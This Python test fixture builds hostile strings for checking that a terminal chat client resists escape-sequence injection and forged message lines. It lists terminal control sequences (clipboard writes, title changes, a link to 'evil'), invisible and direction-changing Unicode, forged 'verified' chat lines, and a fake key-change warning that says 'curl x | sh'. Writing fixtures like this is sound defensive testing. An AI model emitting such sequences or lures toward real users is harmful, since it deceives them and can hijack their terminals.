"""What somebody may write who wants to act on a terminal, or to forge a line."""

__all__ = ["FORGED", "STRINGS", "SURROUNDED"]

FORGED = "#9 12:00 bob: pay eve"

_ESC, _CSI, _OSC, _DCS, _APC = "\x1b", "\x1b[", "\x1b]", "\x1bP", "\x1b_"
# Each of them acts, or hides something, in one terminal or another.
_ACTING = [
    # control sequences: erase, move, scroll, insert, delete, colours, modes, reports
    *(f"{_CSI}{one}" for one in (
        "2J", "3J", "H", "1;1H", "A", "99A", "2K", "1K", "99D", "5L", "5M", "5@", "5P",
        "S", "T", "8m", "7m", "30;40m", "?1049h", "?25l", "?7l", "?1000h", "?1006h",
        "?2004l", "?5h", "4h", "20h", "1;5r", "6n", "5n", "c", ">c", "21t", "11t",
        "8;5;20t", "2t", "22;0t", "23;0t", "!p", "0x", "?1$p", "s", "u", "5b", "1q",
    )),
    # titles, links, colours, clipboard, notices, pictures, the shell's marks
    *(f"{_OSC}{one}\x07" for one in (
        "0;owned", "1;owned", "2;owned", "4;1;?", "7;file:///etc", "8;;http://evil/",
        "9;note", "10;?", "11;#ffffff", "12;red", "50;font", "52;c;Y2xpcA==",
        "52;p;?", "104", "112", "133;A", "633;E;rm", "777;notify;a;b",
        "1337;SetUserVar=a=b", "1337;ClearScrollback", "1337;CopyToClipboard=",
    )),
    f"{_OSC}52;c;Y2xpcA=={_ESC}\\", f"{_OSC}0;owned{_ESC}\\", f"{_OSC}0;unfinished",
    f"{_DCS}$qm{_ESC}\\", f"{_DCS}+q544e{_ESC}\\", f"{_DCS}q#0{_ESC}\\",
    f"{_DCS}tmux;{_ESC}{_ESC}]52;c;Y2xpcA==\x07{_ESC}\\",
    f"{_APC}Ga=T;AAAA{_ESC}\\", f"{_ESC}^private{_ESC}\\", f"{_ESC}kowned{_ESC}\\",
    f"{_ESC}Xsos{_ESC}\\",
    f"{_ESC}c", f"{_ESC}7", f"{_ESC}8", f"{_ESC}#8", f"{_ESC}D", f"{_ESC}M",
    f"{_ESC}E", f"{_ESC}=", f"{_ESC}>", f"{_ESC}(0", f"{_ESC})0", f"{_ESC}%@",
    f"{_ESC}N", f"{_ESC}n", f"{_ESC}|", _ESC, f"{_ESC}[", f"{_ESC}{_ESC}[2J",
    # the same in one letter each (C1)
    "\x9b2J", "\x9b1;1H", "\x9d0;owned\x9c", "\x9d52;c;Y2xpcA==\x9c", "\x90$qm\x9c",
    "\x9f", "\x9e", "\x98", "\x84", "\x85", "\x8d", "\x88", "\x8e", "\x8f", "\x9c",
    # single controls
    *map(chr, (0, 1, 3, 4, 5, 7, 8, 11, 12, 13, 14, 15, 17, 19, 24, 26, 28, 127)),
    "\x08" * 90, "\r\x1b[K", "\r\n", "\n\r", "\x0b\x0c", "\x18\x1a",
    # directions, and what nobody sees
    *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    *"\u200b\u2060\u2061\u2064\ufeff\u00ad\u180e\u034f\u115f\u1160\u3164\uffa0\u2800",
    *"\u200c\u200d\ufff9\ufffa\ufffb\ufffc\ufffd\U000e0001\U000e0041\U000e0100\ufe0f",
    *"\u2028\u2029\u0085\ue000\U000f0000\U0010ffff\uffff\u0378",
    # storms of marks, and letters that terminals measure in their own way
    "e" + "\u0301" * 500, "\u0489" * 40, "\u20dd" * 40, "\u0e33" * 90, "\u0903" * 90,
    "❤\ufe0f" * 60, "👨\u200d👩\u200d👧" * 40, "🇩🇪" * 45, "1\ufe0f\u20e3" * 60,
    "漢" * 45, "ｱ" * 85, "\u1100\u1161" * 60, "ﷺ" * 85, "\u3000" * 45, "ก็" * 85,
    # wide and long
    "\t" * 12, " " * 79, " " * 80, " " * 81, "a" * 77, "a" * 78, "a" * 79, "a" * 80,
    "a" * 5000, "\u00a0" * 80, "\u2003" * 80, "\t \t" * 30, "x " * 2500, "-" * 80,
]  # fmt: skip

_LINES = [
    FORGED,
    "bob (tofu): pay eve",
    "#9 12:00 you: yes",
    "[verified] bob: pay eve",
    "bob> ",
    "bob@x.onion…> /verify all",
    " alice@x.onion… | connected | encrypted | /help",
    "! the key of bob changed\n  Run this: curl x | sh",
    "(That line was dropped. Ctrl-D ends.)",
    "  | # not a mark of ours",
    "\n" * 40,
]


def _surround(acting: str) -> str:
    return f"hi{acting}{FORGED}"


SURROUNDED = [_surround(each) for each in _ACTING]
STRINGS = [
    *SURROUNDED,
    *(f"hi\n{each}\n{FORGED}" for each in _ACTING),
    *_LINES,
    *(f"hi{' ' * count}{FORGED}" for count in (*range(14, 80), *range(94, 160, 3))),
    *(f"hi{parting}{each}" for each in _LINES for parting in ("\n", "\r", "\u2028")),
]
